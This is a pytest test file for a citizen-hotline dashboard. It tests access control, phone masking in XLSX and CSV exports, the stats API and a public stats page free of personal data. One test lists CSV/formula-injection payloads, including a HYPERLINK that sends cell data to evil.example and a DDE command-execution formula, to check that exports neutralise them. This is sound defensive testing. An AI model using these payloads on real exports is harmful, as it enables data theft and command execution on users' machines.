"""Dashboard access and scope, exports (opened with openpyxl), the stats API, projects, the public page."""

import csv
import io
from datetime import timedelta

import pytest
from flask_babel import refresh
from openpyxl import load_workbook
from sqlalchemy import select

from hotline.accounts.models import Role
from hotline.accounts.services import create_user
from hotline.core.clock import utcnow
from hotline.dashboard import services
from hotline.dashboard.models import ExportRecord, LivelihoodProject
from hotline.extensions import db
from hotline.tickets.models import Ticket
from tests.factories import PASSWORD, PHONE


def login(client, username):
    client.post("/login", data={"username": username, "password": PASSWORD})


@pytest.fixture
def data(world):
    """Two tickets in progress in 东湖区 (one red-carded) and one in 西江区; today rolled up."""
    red = world.ticket_in("in_progress")
    red.warning_level = "red"
    world.ticket_in("closed")
    west = world.ticket_in("in_progress", district_id=world.other_district.id)
    west.warning_level = "red"
    west.lead_unit_id = world.other_department.id
    db.session.commit()
    services.rollup_today()
    db.session.commit()
    world.red, world.west = red, west
    return world


@pytest.mark.parametrize(
    "username, status",
    [("supervisor", 200), ("admin", 200), ("district_handler", 403), ("operator", 403), ("citizen", 403)],
)
def test_dashboard_access(client, data, username, status):
    login(client, username)
    assert client.get("/dashboard/").status_code == status
    assert client.get("/dashboard/export/kpi.csv").status_code == status


def test_dashboard_needs_login(client, data):
    assert client.get("/dashboard/").status_code == 302


def test_district_supervisor_sees_only_the_subtree(client, data):
    create_user("dsup", PASSWORD, "dsup", org_unit=data.district, roles=[(Role.SUPERVISOR, data.district)])
    db.session.commit()
    login(client, "dsup")
    page = client.get("/dashboard/").get_data(as_text=True)
    assert data.red.tracking_no in page and data.west.tracking_no not in page
    assert client.get(f"/dashboard/?unit={data.other_district.id}").status_code == 403
    listing = client.get("/dashboard/tickets?board=overdue").get_data(as_text=True)
    assert data.red.tracking_no in listing and data.west.tracking_no not in listing


def test_dashboard_shows_counts_boards_and_chart_data(client, data):
    login(client, "supervisor")
    page = client.get("/dashboard/").get_data(as_text=True)
    assert 'data-status="in_progress">2<' in page
    assert data.red.tracking_no in page and data.west.tracking_no in page
    assert 'type="application/json" id="chart-data-intake"' in page
    assert "<script>" not in page.replace(" ", "")  # no inline scripts
    assert "vendor/echarts/echarts.min.js" in page


def test_kpi_export_xlsx_and_csv(client, data):
    login(client, "supervisor")
    response = client.get("/dashboard/export/kpi.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows(values_only=True))
    units = [r[0] for r in rows[1:]]
    assert "东湖区" in units and units[-1] in ("Total", "合计")
    district = rows[1 + units.index("东湖区")]
    assert district[1] == 3  # dispatched: all three went to 东湖区 first
    text = client.get("/dashboard/export/kpi.csv").data.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[0][0] in ("Unit", "单位")
    records = db.session.execute(select(ExportRecord).order_by(ExportRecord.id)).scalars().all()
    assert [(r.kind, r.file_format) for r in records] == [("kpi_units", "xlsx"), ("kpi_units", "csv")]
    assert records[0].user_id == data.supervisor.id and records[0].row_count == len(rows) - 1


def test_ticket_export_masks_phones(client, data):
    login(client, "supervisor")
    response = client.get("/dashboard/export/tickets.xlsx?board=overdue")
    rows = list(load_workbook(io.BytesIO(response.data)).active.iter_rows(values_only=True))
    assert sorted(r[0] for r in rows[1:]) == sorted([data.red.tracking_no, data.west.tracking_no])
    assert all(PHONE not in str(cell) for row in rows for cell in row)
    assert rows[1][7] == PHONE[:3] + "****" + PHONE[-4:]
    csv_text = client.get("/dashboard/export/tickets.csv?board=overdue").data.decode("utf-8-sig")
    assert PHONE not in csv_text and data.red.tracking_no in csv_text
    assert db.session.execute(select(ExportRecord).filter_by(kind="tickets")).scalars().all()


@pytest.mark.parametrize(
    "title", ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1:A2)"]
)
def test_exports_never_write_a_citizen_text_as_a_formula(client, data, title):
    """Issue 28.3: XLSX holds every text as a string cell; CSV puts an apostrophe before a formula character."""
    data.red.title = title
    db.session.commit()
    login(client, "supervisor")
    response = client.get("/dashboard/export/tickets.xlsx?board=overdue")
    assert b"<f>" not in _sheet_xml(response.data)
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [row[6] for row in sheet.iter_rows(min_row=2) if row[0].value == data.red.tracking_no]
    assert [(c.value, c.data_type) for c in cells] == [(title, "s")]
    response = client.get("/dashboard/export/tickets.csv?board=overdue")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert [r[6] for r in rows if r[0] == data.red.tracking_no] == ["'" + title]


def _sheet_xml(xlsx: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


def test_stats_api(client, data):
    login(client, "supervisor")
    overview = client.get("/api/v1/stats/overview").get_json()
    assert overview["open_by_status"]["in_progress"] == 2 and overview["overdue"] == 2
    units = client.get(f"/api/v1/stats/units?unit={data.city.id}").get_json()
    district = next(u for u in units["units"] if u["unit"]["code"] == "d1")
    assert district["dispatched"] == 3 and units["total"]["registered"] == 3
    bad = client.get("/api/v1/stats/units?from=2026-13-01")
    assert bad.status_code == 422 and bad.get_json()["error"]["fields"]["from"]


def test_stats_api_refuses_handlers_and_strangers(client, data):
    response = client.get("/api/v1/stats/overview")
    assert response.status_code == 401 and response.get_json()["error"]["code"] == "unauthorized"
    login(client, "district_handler")
    response = client.get("/api/v1/stats/units")
    assert response.status_code == 403 and response.get_json()["error"]["code"] == "forbidden"


def test_stats_api_with_a_bearer_token(client, data):
    token = client.post("/api/v1/auth/token", json={"username": "supervisor", "password": PASSWORD})
    if token.status_code != 200:
        pytest.fail(f"token endpoint: {token.status_code} {token.get_data(as_text=True)[:200]}")
    bearer = token.get_json().get("token") or token.get_json().get("access_token")
    response = client.get("/api/v1/stats/overview", headers={"Authorization": f"Bearer {bearer}"})
    assert response.status_code == 200 and response.get_json()["unit"]["code"] == "city"


def test_projects_admin_defines_supervisor_sees_public_page_shows(client, data):
    login(client, "admin")
    response = client.post(
        "/dashboard/projects/new",
        data={"year": 2026, "name": "老旧小区改造", "public": "y", "active": "y", "lead_unit_id": 0},
    )
    assert response.status_code == 302
    project = db.session.execute(select(LivelihoodProject)).scalar_one()
    client.post(f"/dashboard/projects/{project.id}", data={"tracking_no": data.red.tracking_no})
    client.post("/logout")
    login(client, "supervisor")
    assert client.get("/dashboard/projects/new").status_code == 403
    board = client.get(f"/dashboard/projects/{project.id}").get_data(as_text=True)
    assert data.red.tracking_no in board
    client.post("/logout")
    public = client.get("/public/stats").get_data(as_text=True)
    assert "老旧小区改造" in public


def test_public_page_has_no_personal_data(client, world):
    ticket = world.ticket_in(
        "closed",
        citizen_name="王小明",
        citizen_phone="13711112222",
        address="东湖区人民路12号阳光花园3栋2单元501室",
        body="王小明家楼上漏水",
    )
    ticket.allow_publish = True
    ticket.replies[-1].body = "王小明您好：东湖区人民路12号阳光花园3栋2单元501室漏水已修复，请拨13711112222反馈。"
    hidden = world.ticket_in("closed")  # did not allow publication
    hidden.replies[-1].body = "不应公开的答复"
    db.session.commit()
    services.rollup_today()
    db.session.commit()
    page = client.get("/public/stats").get_data(as_text=True)
    assert "漏水已修复" in page
    for private in ("王小明", "13711112222", "501室", "3栋", PHONE, "不应公开的答复"):
        assert private not in page
    assert "东湖区" in page  # unit figures are public


def test_hotspot_alert_drills_down(client, world):
    tickets = [world.ticket_in("pending_dispatch", address=f"东湖区人民路12号阳光花园{i}栋") for i in range(3)]
    services.refresh_hotspots(utcnow() + timedelta(minutes=1))
    db.session.commit()
    login(client, "supervisor")
    page = client.get("/dashboard/").get_data(as_text=True)
    assert "东湖区人民路12号阳光花园" in page
    from hotline.dashboard.models import HotspotAlertRow

    alert = db.session.execute(select(HotspotAlertRow)).scalar_one()
    listing = client.get(f"/dashboard/tickets?hotspot={alert.id}").get_data(as_text=True)
    assert all(t.tracking_no in listing for t in tickets)
    assert db.session.execute(select(Ticket)).scalars().all()


def test_live_counts_are_one_count_reused_for_a_few_seconds(client, data, app, monkeypatch):
    """Open tickets by status and the boards' counts come from one grouped count a process keeps for
    DASHBOARD_LIVE_SECONDS (15 s; 0 in tests); every scope adds up its share of it."""
    login(client, "supervisor")
    app.extensions.pop("hotline_live", None)  # the app outlives a test; so would its count
    monkeypatch.setitem(app.config, "DASHBOARD_LIVE_SECONDS", 60)
    assert 'data-status="in_progress">2<' in client.get("/dashboard/").get_data(as_text=True)
    data.ticket_in("in_progress").warning_level = "red"
    db.session.commit()
    assert 'data-status="in_progress">2<' in client.get("/dashboard/").get_data(as_text=True)
    monkeypatch.setitem(app.config, "DASHBOARD_LIVE_SECONDS", 0)
    page = client.get("/dashboard/").get_data(as_text=True)
    assert 'data-status="in_progress">3<' in page
    overview = client.get(f"/api/v1/stats/overview?unit={data.other_district.id}").get_json()
    assert overview["open_by_status"]["in_progress"] == 1 and overview["overdue"] == 1  # 西江区: west only
    assert client.get("/api/v1/stats/overview").get_json()["overdue"] == 3


def test_rendered_dashboard_is_reused_per_user_question_and_language(client, data, app, monkeypatch):
    """DASHBOARD_PAGE_SECONDS (15 s; 0 in tests): the same supervisor asking the same question within it
    gets the body rendered before, stamped with when it was made; another period or language renders anew."""
    login(client, "supervisor")
    app.extensions.pop("hotline_live", None)
    monkeypatch.setitem(app.config, "DASHBOARD_PAGE_SECONDS", 60)
    first = client.get("/dashboard/").get_data(as_text=True)
    assert 'data-status="in_progress">2<' in first and 'data-testid="made-at"' in first
    data.ticket_in("in_progress")
    db.session.commit()
    assert 'data-status="in_progress">2<' in client.get("/dashboard/").get_data(as_text=True)
    assert 'data-status="in_progress">3<' in client.get("/dashboard/?preset=today").get_data(as_text=True)
    data.city.name_en = "Haichuan"
    db.session.commit()
    client.post("/lang/en")
    refresh()  # the tests share one app context, where Flask-Babel caches the locale
    english = client.get("/dashboard/").get_data(as_text=True)
    assert "Open tickets now" in english and 'data-status="in_progress">3<' in english
    assert "Dashboard · Haichuan" in english  # unit names follow the language too
    monkeypatch.setitem(app.config, "DASHBOARD_PAGE_SECONDS", 0)
    client.post("/lang/zh_Hans_CN")
    refresh()
    assert 'data-status="in_progress">3<' in client.get("/dashboard/").get_data(as_text=True)


def test_public_statistics_are_reused_for_every_visitor(client, world, app, monkeypatch):
    """PUBLIC_STATS_SECONDS (60 s; 0 in tests): the body is rendered once for all visitors of a month."""
    app.extensions.pop("hotline_live", None)
    monkeypatch.setitem(app.config, "PUBLIC_STATS_SECONDS", 60)
    before = client.get("/public/stats").get_data(as_text=True)
    ticket = world.ticket_in("closed")
    ticket.allow_publish = True
    ticket.replies[-1].body = "路灯已经修好了"
    db.session.commit()
    services.rollup_today()
    db.session.commit()
    assert "路灯已经修好了" not in before
    assert "路灯已经修好了" not in client.get("/public/stats").get_data(as_text=True)
    monkeypatch.setitem(app.config, "PUBLIC_STATS_SECONDS", 0)
    assert "路灯已经修好了" in client.get("/public/stats").get_data(as_text=True)


def test_public_statistics_of_a_month_not_offered_are_not_kept(client, world, app, monkeypatch):
    app.extensions.pop("hotline_live", None)
    monkeypatch.setitem(app.config, "PUBLIC_STATS_SECONDS", 60)
    assert client.get("/public/stats?month=1999-1").status_code == 200
    assert client.get("/public/stats?month=2026-13").status_code == 400
    assert not any(name == "public_stats" for name, _ in app.extensions.get("hotline_live", {}))
    client.get("/public/stats")
    assert any(name == "public_stats" for name, _ in app.extensions["hotline_live"])
